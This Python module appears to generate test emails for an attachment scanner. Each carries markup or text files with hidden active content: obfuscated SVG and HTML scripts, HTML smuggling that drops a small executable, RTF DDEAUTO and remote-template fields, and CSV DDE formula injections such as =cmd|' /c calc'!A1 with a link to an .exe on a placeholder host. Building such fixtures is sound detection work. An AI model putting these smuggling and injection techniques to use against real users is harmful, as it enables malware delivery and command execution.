"""
threats_markup.py - active content in markup and text formats that byte
searches miss (issue 15), judged by src/lib/inspect_markup.c and its
readers:
  SVG   script with a namespace prefix, javascript: written with character
        references, HTML in a foreignObject, an event handler
        (`executable`: a browser runs it when the image is opened);
  HTML  smuggling hidden from string searches: names built with
        String.fromCharCode and bracket access, an array joined into
        msSaveOrOpenBlob, atob reached as window['at'+'ob'] on a split
        base64 program, a data: URL assembled by script, a meta refresh
        to a data: URL (`executable`: the page writes a file to disk);
  RTF   a remote template, an INCLUDEPICTURE field fetching from http, a
        DDEAUTO field (`macro`);
  CSV   formula injection / DDE: =cmd|' /c calc'!A1, @SUM(1+1)*cmd|...,
        + and - variants, a HYPERLINK to a program (`macro`).
The clean controls are what a practice receives every day: a plain SVG
logo, an HTML newsletter, an RTF letter with a picture, a CSV of lab
values with ordinary formulas, negative numbers and phone numbers.

Harmless look-alikes: scripts set the page title or show an alert, the
"program" is gen_corpus's tiny PE, URLs use RFC 5737 / RFC 2606 names.
Deterministic: fixed text only.
"""

import base64

import gen_corpus as gc
from threatlib import attach, sample, zipped

MIME_SVG = "image/svg+xml"
MIME_HTML = "text/html"
MIME_RTF = "application/rtf"
MIME_CSV = "text/csv"
SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def char_refs(text):
    return "".join("&#%d;" % ord(c) for c in text)


# ================================================================ SVG

SVG_PREFIXED = """<?xml version="1.0" encoding="UTF-8"?>
<s:svg xmlns:s="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60">
<s:rect width="120" height="60" fill="#2a6f97"/>
<s:script type="application/ecmascript"><![CDATA[
document.title = 'Airlock test: SVG script ran';
]]></s:script>
</s:svg>
"""

SVG_CHAR_REFS = """<?xml version="1.0" encoding="UTF-8"?>
<svg %s width="120" height="60">
<a xlink:href="%s"><rect width="120" height="60" fill="#2a6f97"/>
<text x="10" y="35" fill="white">View invoice</text></a>
</svg>
""" % (SVG_NS, char_refs("javascript:alert('Airlock test')"))

SVG_FOREIGN = """<?xml version="1.0" encoding="UTF-8"?>
<svg %s width="300" height="150">
<foreignObject x="0" y="0" width="300" height="150">
<html xmlns="http://www.w3.org/1999/xhtml"><body>
<p>Loading your document...</p>
<iframe src="https://example.org/viewer" width="1" height="1"></iframe>
<script>document.title = 'Airlock test: HTML in an SVG ran';</script>
</body></html>
</foreignObject>
</svg>
""" % SVG_NS

SVG_HANDLER = """<?xml version="1.0" encoding="UTF-8"?>
<svg %s width="120" height="60" onload="document.title='Airlock test: onload ran'">
<rect width="120" height="60" fill="#2a6f97"/>
</svg>
""" % SVG_NS

SVG_LOGO = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg %s width="200" height="80" viewBox="0 0 200 80">
<title>Cabinet de radiologie</title>
<defs><linearGradient id="sky" x1="0" y1="0" x2="0" y2="1">
<stop offset="0" stop-color="#8ecae6"/><stop offset="1" stop-color="#219ebc"/>
</linearGradient></defs>
<rect width="200" height="80" rx="8" fill="url(#sky)"/>
<circle cx="40" cy="40" r="24" fill="#ffffff" opacity="0.9"/>
<path d="M30 40 h20 M40 30 v20" stroke="#023047" stroke-width="5"/>
<text x="75" y="47" font-family="Helvetica" font-size="18" fill="#023047">Radiologie</text>
<image x="170" y="10" width="16" height="16" xlink:href="data:image/png;base64,%s"/>
</svg>
""" % (SVG_NS, base64.b64encode(gc.make_png()).decode())

for _name, _text in [("svg-script-namespace-prefix", SVG_PREFIXED),
                     ("svg-javascript-char-refs", SVG_CHAR_REFS),
                     ("svg-foreignobject-html", SVG_FOREIGN),
                     ("svg-event-handler", SVG_HANDLER)]:
    def _svg(s, text=_text):
        return attach(s, text.encode(), MIME_SVG, "logo.svg")
    sample(_name + ".eml", item="logo.svg", reasons=["executable"], also=["disguised"])(_svg)


@sample("svg-logo-clean.eml", item="logo.svg", clean=True)
def svg_logo_clean(s):
    return attach(s, SVG_LOGO.encode(), MIME_SVG, "logo.svg")


# ================================================================ HTML smuggling

PE_B64 = base64.b64encode(gc.make_pe()).decode()


def char_codes(text):
    return "String.fromCharCode(%s)" % ",".join(str(ord(c)) for c in text)


HTML_FROMCHARCODE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Invoice</title></head>
<body><p>Preparing your invoice...</p>
<script>
var u = window[%s];
var make = u[%s];
var bytes = new Uint8Array([77, 90, 144, 0]);
var file = new window['Bl' + 'ob']([bytes], {type: 'application/octet-stream'});
var a = document.createElement('a');
a.href = make(file);
a['down' + 'load'] = 'invoice.iso';
document.body.appendChild(a);
a['cl' + 'ick']();
</script></body></html>
""" % (char_codes("URL"), char_codes("createObjectURL"))

HTML_JOIN = """<html><body><p>Your statement</p><script>
var n = window.navigator;
var save = ['ms', 'Save', 'OrOpen', 'Blob'].join('');
var data = new Uint8Array([80, 75, 3, 4]);
if (n[save]) { n[save](new Blob([data]), 'statement.zip'); }
</script></body></html>
"""

HTML_ATOB = """<html><body><p>Opening document...</p><script>
var w = window;
var dec = w['at' + 'ob'];
var parts = ["%s", "%s"];
var raw = dec(parts[0] + parts[1]);
var buf = new w['Uint8' + 'Array'](raw.length);
for (var i = 0; i < raw.length; i++) { buf[i] = raw['char' + 'CodeAt'](i); }
document.title = 'Airlock test: decoded ' + buf.length + ' bytes';
</script></body></html>
""" % (PE_B64[:len(PE_B64) // 2], PE_B64[len(PE_B64) // 2:])

HTML_DATA_BUILT = """<html><body><a id="dl">Download your results</a><script>
var kind = 'appli' + 'cation/x-msdownload';
var link = document.getElementById('dl');
link.setAttribute('href', 'data:' + 'appli' + 'cation/x-msdownload;base64,' + '%s');
link.setAttribute('download', 'results.exe');
</script></body></html>
""" % PE_B64

HTML_REFRESH = """<html><head>
<meta http-equiv="refresh" content="0; url=data:text/html;base64,%s">
</head><body>Redirecting...</body></html>
""" % base64.b64encode(b"<script>document.title='Airlock test'</script>").decode()

HTML_NEWSLETTER = """<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Lettre du cabinet - printemps</title>
<style>body { font-family: Arial, sans-serif; color: #222 } .box { border: 1px solid #ccc;
padding: 8px } a { color: #0a58ca }</style></head>
<body><table width="600" align="center"><tr><td>
<img src="data:image/png;base64,%s" alt="logo" width="16" height="16">
<h1>Lettre du cabinet</h1>
<p class="box">Nouveaux horaires : du lundi au samedi, 8h - 19h. Prenez rendez-vous en ligne sur
<a href="https://www.example.org/rendez-vous">notre site</a> ou au 01 23 45 67 89.</p>
<p>T&eacute;l&eacute;chargez la brochure sur <a href="https://www.example.org/brochure.pdf">
example.org</a>.</p>
<p style="font-size:small">Pour ne plus recevoir cette lettre :
<a href="mailto:desabonnement@example.org">d&eacute;sabonnement</a>.</p>
</td></tr></table></body></html>
""" % base64.b64encode(gc.make_png()).decode()

for _name, _file, _text in [("html-smuggling-fromcharcode", "invoice.html", HTML_FROMCHARCODE),
                            ("html-smuggling-array-join", "statement.htm", HTML_JOIN),
                            ("html-smuggling-atob-brackets", "document.html", HTML_ATOB),
                            ("html-smuggling-data-url-built", "results.html", HTML_DATA_BUILT),
                            ("html-smuggling-meta-refresh", "message.html", HTML_REFRESH)]:
    def _html(s, text=_text, filename=_file):
        return attach(s, text.encode(), MIME_HTML, filename)
    sample(_name + ".eml", item=_file, reasons=["executable"], also=["disguised"])(_html)


@sample("html-newsletter-clean.eml", item="lettre.html", clean=True)
def html_newsletter_clean(s):
    return attach(s, HTML_NEWSLETTER.encode(), MIME_HTML, "lettre.html")


# ================================================================ RTF

RTF_HEAD = (b"{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\froman Times New Roman;}}\r\n"
            b"{\\info{\\author Secretariat}}\r\n")


def rtf(body, before=b""):
    return RTF_HEAD + before + b"\\pard\\f0\\fs24 " + body + b"\\par\r\n}\r\n"


RTF_TEMPLATE = rtf(b"Compte rendu en pi\\'e8ce jointe.",
                   before=b"{\\*\\template http://198.51.100.7/templates/letter.dotm}\r\n")
RTF_INCLUDEPICTURE = rtf(b"Voir l'image : {\\field{\\*\\fldinst {INCLUDEPICTURE }"
                         b"{\"http://192.0.2.10/track/logo.png\" \\\\d}}{\\fldrslt }}")
RTF_DDE = rtf(b"{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "
              b"\"/c echo Airlock test\"}{\\fldrslt Mise \\'e0 jour}}")


def rtf_letter_with_picture():
    png = gc.make_png()
    lines = b"\r\n".join(png.hex().encode()[i:i + 64] for i in range(0, len(png) * 2, 64))
    return rtf(b"Cher confr\\'e8re,\\par Veuillez trouver le compte rendu de l'examen."
               b"\\par {\\pict\\pngblip\\picw16\\pich16\\picwgoal240\\pichgoal240\r\n" + lines
               + b"}\\par Site : {\\field{\\*\\fldinst HYPERLINK \"https://www.example.org/\"}"
               b"{\\fldrslt www.example.org}}\\par Bien confraternellement.")


for _name, _data in [("rtf-remote-template", RTF_TEMPLATE),
                     ("rtf-includepicture-http", RTF_INCLUDEPICTURE),
                     ("rtf-ddeauto-field", RTF_DDE)]:
    def _rtf(s, data=_data):
        return attach(s, data, MIME_RTF, "compte-rendu.rtf")
    sample(_name + ".eml", item="compte-rendu.rtf", reasons=["macro"])(_rtf)


@sample("rtf-letter-picture-clean.eml", item="courrier.rtf", clean=True)
def rtf_letter_clean(s):
    return attach(s, rtf_letter_with_picture(), MIME_RTF, "courrier.rtf")


# ================================================================ CSV

CSV_HEAD = "patient;examen;valeur;unite\r\n"
CSV_THREATS = [
    ("csv-dde-cmd", CSV_HEAD + "DUPONT;glucose;=cmd|' /c calc'!A1;mmol/L\r\n"),
    ("csv-dde-at-sum", CSV_HEAD + "DUPONT;glucose;@SUM(1+1)*cmd|' /C calc'!A0;mmol/L\r\n"),
    ("csv-dde-plus", CSV_HEAD + "DUPONT;glucose;\"+cmd|' /c calc'!A1\";mmol/L\r\n"),
    ("csv-dde-minus", CSV_HEAD + "DUPONT;glucose; -2+3+cmd|' /c calc'!A0;mmol/L\r\n"),
    ("csv-hyperlink-program", CSV_HEAD
     + "DUPONT;resultats;\"=HYPERLINK(\"\"http://192.0.2.20/resultats.exe\"\";"
       "\"\"Voir\"\")\";\r\n"),
]

CSV_LABS = (
    "patient;date;examen;valeur;variation;unite;telephone\r\n"
    "DUPONT Marie;2024-03-01;glucose;5.2;-5.2;mmol/L;+33 1 23 45 67 89\r\n"
    "MARTIN Paul;2024-03-01;\"sodium, serum\";140;+2;mmol/L;-\r\n"
    "BERNARD Anne;2024-03-02;potassium;4.1;-0.3;mmol/L;+33 6 12 34 56 78\r\n"
    "moyenne;;;=AVERAGE(D2:D4);=SUM(E2:E4);;\r\n"
    "ecart;;;=D2-D3;=ROUND(E2*100/D2;1);%;\r\n"
)

for _name, _text in CSV_THREATS:
    def _csv(s, text=_text):
        return attach(s, text.encode(), MIME_CSV, "resultats.csv")
    sample(_name + ".eml", item="resultats.csv", reasons=["macro"])(_csv)


@sample("csv-lab-values-clean.eml", item="resultats.csv", clean=True)
def csv_clean(s):
    return attach(s, CSV_LABS.encode(), MIME_CSV, "resultats.csv")



# The OLE object rule moved from a signature to the RTF reader: it must
# still hold inside an archive and under a .doc name.
def rtf_package_object():
    native = b"notes.txt\0Embedded object of a test RTF.\r\n"
    ole1 = (bytes.fromhex("0105000002000000") + (8).to_bytes(4, "little") + b"Package\0"
            + bytes(8) + len(native).to_bytes(4, "little") + native)
    return rtf(b"Compte rendu.{\\object\\objemb\\objw1000\\objh1000{\\*\\objclass Package}"
               b"{\\*\\objdata\r\n" + ole1.hex().encode() + b"\r\n}}")


@sample("rtf-ole-object-in-zip.eml", item="dossier.zip", reasons=["macro"],
        inner="compte-rendu.rtf")
def rtf_object_in_zip(s):
    return attach(s, zipped([("compte-rendu.rtf", rtf_package_object())]), gc.MIME_ZIP,
                  "dossier.zip")
